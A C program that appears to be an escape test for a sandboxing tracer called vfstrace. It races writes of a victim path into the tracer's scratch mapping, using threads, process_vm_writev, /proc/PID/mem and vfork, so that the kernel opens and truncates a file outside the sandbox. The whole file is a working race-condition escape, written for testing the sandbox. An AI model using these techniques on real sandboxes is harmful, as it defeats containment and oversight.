/* SPDX-License-Identifier: MIT */
/*
 * The rewritten path in vfstrace's scratch mapping changed by the tree
 * between vfstrace's write and the kernel's read: scratch_flip HOW
 * VICTIM INNER.  An opener loops open(O_WRONLY|O_TRUNC) + write for
 * about 3 s while a flipper puts VICTIM (its host path: the lower is
 * "/") into the first slots of the mapping, where vfstrace wrote the
 * opener's rewritten upper path; if the kernel reads VICTIM, the lower
 * file is truncated.  HOW:
 *  - "thread": the opener (main thread, on VICTIM) and a sibling thread
 *    that makes the mapping writable (mprotect, or else mmap MAP_FIXED
 *    over it) and copies VICTIM in, in a loop;
 *  - "vmwrite": the opener a forked child (on VICTIM), the parent
 *    writing the child's copy of the mapping with process_vm_writev;
 *  - "procmem": the same through /proc/CHILD/mem, which forces past the
 *    read-only protection and the seal: only --sandbox holds it
 *    (Landlock gives the tree no write right on /proc);
 *  - "vfork": the opener a vfork child (on INNER) made by a second
 *    thread, the main thread of the parent, which shares the memory,
 *    flipping as "thread" does;
 *  - "vfork-slot": the same, but the main thread only makes vfstrace
 *    write the slot: it opens "dir/../victim" O_RDONLY in a loop from
 *    VICTIM's directory, a path vfstrace rewrites to "victim"; if the
 *    vfork child's slot is the main thread's, the child's open of INNER
 *    reads "victim".
 * Natively there is no scratch mapping and the opener writes the canary
 * itself (INNER or VICTIM), which proves the judge sees a write.
 */
#include <fcntl.h>
#include <libgen.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "escape.h"

#define SCRATCH (4ul << 20)
#define SLOT (16ul << 10)
#define NFLIP 4		/* the first slots: the opener's is among them */
#define SECONDS 3

static const char *victim, *inner;
static char *scratch;
static int scratch_rw;		/* mapped read-write (vfstrace before 13) */
static atomic_int done;
static long flips, opens;

/*
 * The last private anonymous 4 MiB mapping below 4 GiB (no name, or
 * "[heap]"), or NULL.
 */
static char *find_scratch(void)
{
	unsigned long lo, hi;
	char line[512], perm[8], *found = NULL;
	FILE *f = fopen("/proc/self/maps", "r");
	int n;

	if (!f)
		setup_fail("/proc/self/maps: %s", strerror(errno));
	while (fgets(line, sizeof(line), f)) {
		n = 0;
		if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %n", &lo, &hi, perm,
			   &n) < 3)
			continue;
		if (hi - lo == SCRATCH && hi <= (1ul << 32) && n &&
		    (!line[n] || line[n] == '\n' ||
		     !strcmp(line + n, "[heap]\n")) &&
		    (!strcmp(perm, "rw-p") || !strcmp(perm, "r--p"))) {
			found = (char *)lo;
			scratch_rw = perm[1] == 'w';
		}
	}
	fclose(f);
	return found;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* open(O_WRONLY|O_TRUNC) + write PATH for SECONDS. */
static void opener(const char *path)
{
	double end = now() + SECONDS;
	int fd;

	while (now() < end) {
		fd = open(path, O_WRONLY | O_TRUNC);
		if (fd >= 0) {
			if (write(fd, "pwned\n", 6) == 6)
				opens++;
			close(fd);
		}
	}
}

/* Make the mapping writable, or fail: every way the tree has. */
static int writable(void)
{
	if (scratch_rw)
		return 1;
	if (!mprotect(scratch, SCRATCH, PROT_READ | PROT_WRITE))
		return 1;
	if (mmap(scratch, SCRATCH, PROT_READ | PROT_WRITE,
		 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == scratch)
		return 1;
	return 0;
}

/* Copy VICTIM into the first slots until DONE; how many rounds. */
static void *flipper(void *arg)
{
	size_t len = strlen(victim) + 1;
	int ok = 0, i;

	(void)arg;
	while (!atomic_load(&done)) {
		if (!ok && !(ok = writable()))
			continue;
		for (i = 0; i < NFLIP; i++)
			memcpy(scratch + i * SLOT, victim, len);
		flips++;
	}
	return NULL;
}

/* The parent of "vmwrite": write the child's slots while it runs. */
static int vm_flipper(pid_t child)
{
	struct iovec local = { (void *)victim, strlen(victim) + 1 };
	struct iovec remote[NFLIP];
	long ok = 0, failed = 0;
	int st, i;

	for (i = 0; i < NFLIP; i++) {
		remote[i].iov_base = scratch + i * SLOT;
		remote[i].iov_len = local.iov_len;
	}
	while (waitpid(child, &st, WNOHANG) == 0) {
		for (i = 0; i < NFLIP; i++) {
			if (process_vm_writev(child, &local, 1, &remote[i], 1,
					      0) > 0)
				ok++;
			else
				failed++;
		}
	}
	fprintf(stderr, "process_vm_writev: %ld written, %ld failed\n", ok,
		failed);
	return 0;
}

/* The parent of "procmem": the same through /proc/CHILD/mem. */
static int mem_flipper(pid_t child)
{
	char path[64];
	long ok = 0, failed = 0;
	size_t n = strlen(victim) + 1;
	int st, i, fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", (int)child);
	fd = open(path, O_RDWR);
	step("open /proc/CHILD/mem O_RDWR", fd);
	while (waitpid(child, &st, WNOHANG) == 0) {
		for (i = 0; fd >= 0 && i < NFLIP; i++) {
			if (pwrite(fd, victim, n, (off_t)(uintptr_t)
				   (scratch + i * SLOT)) > 0)
				ok++;
			else
				failed++;
		}
	}
	fprintf(stderr, "/proc/CHILD/mem: %ld written, %ld failed\n", ok,
		failed);
	if (fd >= 0)
		close(fd);
	return 0;
}

/* The second thread of "vfork": the vfork child opens INNER. */
static void *vforker(void *arg)
{
	pid_t pid;

	(void)arg;
	pid = vfork();
	if (pid == 0) {
		opener(inner);
		_exit(0);
	}
	if (pid > 0)
		waitpid(pid, NULL, 0);
	atomic_store(&done, 1);
	return NULL;
}

/* The main thread of "vfork-slot": vfstrace writes "victim" for us. */
static void slot_writer(void)
{
	int fd;

	while (!atomic_load(&done)) {
		fd = open("dir/../victim", O_RDONLY);
		if (fd >= 0)
			close(fd);
		flips++;
	}
}

static int run(const char *how)
{
	pthread_t th;
	pid_t pid;

	if (!strcmp(how, "thread")) {
		pthread_create(&th, NULL, flipper, NULL);
		opener(victim);
		atomic_store(&done, 1);
		pthread_join(th, NULL);
	} else if (!strcmp(how, "vmwrite")) {
		pid = fork();
		if (pid == 0) {
			opener(victim);
			_exit(0);
		}
		return pid < 0 ? 2 : vm_flipper(pid);
	} else if (!strcmp(how, "procmem")) {
		pid = fork();
		if (pid == 0) {
			opener(victim);
			_exit(0);
		}
		return pid < 0 ? 2 : mem_flipper(pid);
	} else if (!strcmp(how, "vfork") || !strcmp(how, "vfork-slot")) {
		pthread_create(&th, NULL, vforker, NULL);
		if (!strcmp(how, "vfork"))
			flipper(NULL);
		else
			slot_writer();
		pthread_join(th, NULL);
	} else {
		setup_fail("unknown way %s", how);
	}
	return 0;
}

int main(int argc, char **argv)
{
	char dir[4096];
	int fd, ret;

	if (argc != 4)
		setup_fail("usage: scratch_flip HOW VICTIM INNER");
	victim = argv[2];
	inner = argv[3];
	snprintf(dir, sizeof(dir), "%s", victim);
	if (chdir(dirname(dir)))
		setup_fail("chdir: %s", strerror(errno));
	fd = open(victim, O_RDONLY);	/* trapped: the mapping is made */
	if (fd >= 0)
		close(fd);
	scratch = find_scratch();
	if (!scratch) {
		fprintf(stderr, "no scratch mapping: natively, the canary\n");
		opener(strcmp(argv[1], "thread") &&
		       strcmp(argv[1], "vmwrite") &&
		       strcmp(argv[1], "procmem") ? inner : victim);
		return 0;
	}
	fprintf(stderr, "scratch at %p\n", (void *)scratch);
	ret = run(argv[1]);
	fprintf(stderr, "%ld flip rounds, %ld writes\n", flips, opens);
	return ret;
}
